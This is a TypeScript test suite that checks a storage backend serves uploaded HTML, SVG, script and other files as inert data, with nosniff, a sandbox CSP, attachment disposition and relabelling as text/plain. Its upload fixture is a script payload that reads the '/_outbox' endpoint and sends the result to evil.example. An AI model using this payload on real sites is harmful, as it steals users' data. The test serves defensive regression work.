// How Storage serves what was uploaded (issue 30): an uploaded HTML or SVG
// file opened through a signed link ran its script on the backend's origin
// and read the mail outbox. Every object, through every download route
// (public, signed, authenticated), is served as data: nosniff, a sandboxing
// CSP, an attachment unless it is a raster image, and the types a browser
// would run as text/plain.
import { randomUUID } from 'node:crypto';
import { expect, it } from 'vitest';
import { describeOnEachDatabase } from './harness.ts';

const fixtures = new URL('./storage-fixtures/', import.meta.url).pathname;
const STORAGE_SCHEMA = { migrationsDir: `${fixtures}migrations`, seedFile: `${fixtures}seed.sql`, functionsDir: undefined };

const SCRIPT_PAGE = '<!doctype html><script>fetch("/_outbox").then((r) => r.text()).then((t) => fetch("https://evil.example/?" + t))</script>';

/** Stored type → [served type, inline when no download was asked]. */
const CASES: [stored: string, served: string, inline: boolean][] = [
  ['image/png', 'image/png', true],
  ['image/jpeg', 'image/jpeg', true],
  ['image/gif', 'image/gif', true],
  ['image/webp', 'image/webp', true],
  ['image/svg+xml', 'text/plain; charset=utf-8', false],
  ['text/html', 'text/plain; charset=utf-8', false],
  ['text/html; charset=utf-8', 'text/plain; charset=utf-8', false],
  ['application/xhtml+xml', 'text/plain; charset=utf-8', false],
  ['application/javascript', 'text/plain; charset=utf-8', false],
  ['text/javascript', 'text/plain; charset=utf-8', false],
  ['text/xml', 'text/plain; charset=utf-8', false],
  ['application/xml', 'text/plain; charset=utf-8', false],
  ['application/x-unknown-thing', 'text/plain; charset=utf-8', false],
  ['TEXT/HTML', 'text/plain; charset=utf-8', false],
  ['application/pdf', 'application/pdf', false],
  ['text/plain', 'text/plain', false],
  ['text/csv', 'text/csv', false],
  ['application/octet-stream', 'application/octet-stream', false],
];

describeOnEachDatabase(
  'Storage serves objects as data',
  (fixture) => {
    const alice = randomUUID();
    const names = new Map<string, string>();
    const nameOf = (type: string) => names.get(type)!;

    type Route = 'public' | 'signed' | 'authenticated';
    async function get(route: Route, name: string, download?: string): Promise<Response> {
      const query = download === undefined ? '' : `download=${encodeURIComponent(download)}`;
      if (route === 'public') return fetch(`${fixture().backend.url}/storage/v1/object/public/public/${name}${query ? `?${query}` : ''}`);
      if (route === 'signed') {
        const { data, error } = await fixture().service.storage.from('public').createSignedUrl(name, 60);
        if (error) throw error;
        return fetch(`${data.signedUrl}${query ? `&${query}` : ''}`);
      }
      const token = await fixture().token({ sub: alice, role: 'authenticated', aud: 'authenticated' });
      return fetch(`${fixture().backend.url}/storage/v1/object/authenticated/public/${name}${query ? `?${query}` : ''}`, {
        headers: { Authorization: `Bearer ${token}`, apikey: fixture().backend.anonKey },
      });
    }

    it('takes an object of every type into the public bucket', async () => {
      for (const [type] of CASES) {
        const name = `served/${randomUUID()}`;
        // Raw bytes with the type as Content-Type: how storage-js uploads a Blob of that type.
        const response = await fixture().fetch(`/storage/v1/object/public/${name}`, {
          method: 'POST',
          headers: { Authorization: `Bearer ${await fixture().token({ sub: alice, role: 'authenticated', aud: 'authenticated' })}`, 'Content-Type': type },
          body: SCRIPT_PAGE,
        });
        expect(response.status, type).toBe(200);
        names.set(type, name);
      }
    });

    for (const route of ['public', 'signed', 'authenticated'] as const) {
      it.each(CASES)(`${route}: %s is served as %s, nosniff, sandboxed`, async (stored, served, inline) => {
        const response = await get(route, nameOf(stored));
        expect(response.status).toBe(200);
        expect(response.headers.get('content-type')).toBe(served);
        expect(response.headers.get('x-content-type-options')).toBe('nosniff');
        expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
        expect(response.headers.get('content-disposition')).toBe(inline ? null : 'attachment');
        // The bytes are the ones uploaded: nothing is rewritten, only labelled.
        expect(await response.text()).toBe(SCRIPT_PAGE);
      });

      it(`${route}: a download name makes any type an attachment of that name`, async () => {
        const png = await get(route, nameOf('image/png'), 'shot.png');
        expect(png.headers.get('content-disposition')).toBe("attachment; filename=shot.png; filename*=UTF-8''shot.png");
        const html = await get(route, nameOf('text/html'), '');
        expect(html.headers.get('content-disposition')).toBe('attachment;');
        expect(html.headers.get('content-type')).toBe('text/plain; charset=utf-8');
      });
    }

    it('HEAD answers with the same headers as GET', async () => {
      const response = await fetch(`${fixture().backend.url}/storage/v1/object/public/public/${nameOf('image/svg+xml')}`, { method: 'HEAD' });
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toBe('text/plain; charset=utf-8');
      expect(response.headers.get('content-disposition')).toBe('attachment');
      expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    });

    it('errors are nosniff too', async () => {
      const response = await fetch(`${fixture().backend.url}/storage/v1/object/public/public/served/none`);
      expect(response.status).toBe(400);
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    });

    it('a copy or move into a bucket with a type list keeps the list, as an upload would', async () => {
      const service = fixture().service.storage.from('public');
      const copied = await service.copy(nameOf('text/html'), `${alice}/page.html`, { destinationBucket: 'private' });
      expect(copied.error).toMatchObject({ statusCode: '415' });
      const moved = await service.move(nameOf('application/javascript'), `${alice}/page.js`, { destinationBucket: 'private' });
      expect(moved.error).toMatchObject({ statusCode: '415' });
      const { rows } = await fixture().backend.db.query(`select name from storage.objects where bucket_id = 'private' and name like $1`, [`${alice}/%`]);
      expect(rows).toEqual([]);
      // An allowed type within the size limit goes.
      expect((await service.copy(nameOf('text/plain'), `${alice}/page.txt`, { destinationBucket: 'private' })).error).toBeNull();
    });
  },
  STORAGE_SCHEMA,
);
